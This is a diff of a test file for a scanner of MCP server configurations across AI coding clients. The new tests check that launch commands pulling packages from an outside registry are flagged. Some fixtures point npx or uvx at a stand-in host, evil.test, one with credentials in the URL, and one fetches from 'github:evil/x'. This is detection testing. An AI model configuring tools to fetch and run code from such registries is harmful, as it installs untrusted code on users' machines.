@@ -57,7 +57,12 @@ test('every client, every format, one app per server', async () => {
       'stdio: g',
     ],
     ['code', 'in /home/ada/.config/Code/User/mcp.json, read by VS Code', 'http: https://a.example'],
-    ['codex', 'in /home/ada/.codex/config.toml, read by Codex', 'stdio: uvx mcp-server-git@2026.1'],
+    [
+      'codex',
+      'in /home/ada/.codex/config.toml, read by Codex',
+      'stdio: uvx mcp-server-git@2026.1',
+      'arguments: mcp-server-git==2026.1',
+    ],
     ['continue', 'in /home/ada/.continue/config.yaml, read by Continue', 'stdio: d'],
     ['cursor', 'in /home/ada/.cursor/mcp.json, read by Cursor', 'stdio: h'],
     ['global', 'in /home/ada/.claude.json, read by Claude Code', 'stdio: a'],
@@ -73,7 +78,12 @@ test('every client, every format, one app per server', async () => {
       'in /home/ada/.continue/mcpServers/more.yaml, read by Continue',
       'sse: http://a.example',
     ],
-    ['opencode', 'in /home/ada/.config/opencode/opencode.json, read by OpenCode', 'stdio: e'],
+    [
+      'opencode',
+      'in /home/ada/.config/opencode/opencode.json, read by OpenCode',
+      'stdio: e',
+      'arguments: f',
+    ],
     ['roo', 'in /home/ada/src/deep/er/.roo/mcp.json, read by Roo Code', 'stdio: i'],
     ['vs', 'in /home/ada/src/.vscode/mcp.json, read by VS Code', 'stdio: j'],
     ['zed', 'in /home/ada/.config/zed/settings.json, read by Zed', 'stdio: z'],
@@ -194,4 +204,61 @@ test('no secret of a configuration leaves, wherever it stands', async () => {
   ]);
   const flagged = result.apps.filter((app) => app.risk_flags.includes('plaintext_secret'));
   expect(flagged.length).toBeGreaterThan(secrets.length * 6);
+});
+
+const evil = 'http://evil.test';
+const git = 'npx -y mcp-server-git';
+test.each<[string, object, string | null, string, boolean]>([
+  ['uvx mcp-server-git', {}, 'mcp-git', 'uvx mcp-server-git', false],
+  ['docker run -i mcp/git', {}, 'mcp-git', 'docker mcp/git', false],
+  [git, {}, null, 'npx mcp-server-git', false],
+  ['npx -y postgres-mcp', {}, null, 'npx postgres-mcp', false],
+  ['uvx postgres-mcp', {}, 'mcp-postgres-pro', 'uvx postgres-mcp', false],
+  ['npx mcp-shell', {}, 'mcp-shell', 'npx mcp-shell', false],
+  ['npx mcp-server-commands', {}, 'mcp-server-commands', 'npx mcp-server-commands', false],
+  [
+    `npx --registry ${evil} @modelcontextprotocol/server-filesystem`,
+    {},
+    null,
+    `npx @modelcontextprotocol/server-filesystem from ${evil}`,
+    true,
+  ],
+  [
+    `npx --registry=https://registry.npmjs.org/ @modelcontextprotocol/server-filesystem`,
+    {},
+    'mcp-filesystem',
+    'npx @modelcontextprotocol/server-filesystem',
+    false,
+  ],
+  [
+    `uvx --index-url http://u:sesame@evil.test/simple?x mcp-server-git`,
+    {},
+    null,
+    `uvx mcp-server-git from ${evil}/simple`,
+    true,
+  ],
+  [
+    'uvx mcp-server-git',
+    { UV_INDEX_URL: evil },
+    null,
+    'uvx mcp-server-git from another registry',
+    true,
+  ],
+  ['npx github:evil/x', {}, null, 'npx github:evil/x', false],
+  [
+    'uvx --from git+https://u:p@git.example/a/b.git@v1 x',
+    {},
+    null,
+    'uvx https://git.example/a/b.git',
+    false,
+  ],
+])('%s %j is %s', async (line, env, id, reached, isOther) => {
+  const [command, ...args] = line.split(' ');
+  await using root = await makeRoot({
+    '/home/ada/.cursor/mcp.json': closed(json({ mcpServers: { source: { command, args, env } } })),
+  });
+  const [app] = (await scan(root.dir)).apps;
+  expect(app?.catalog_id).toBe(id);
+  expect(app?.evidence).toContain(`stdio: ${reached}`);
+  expect(app?.risk_flags.includes('other_registry')).toBe(isOther);
 });
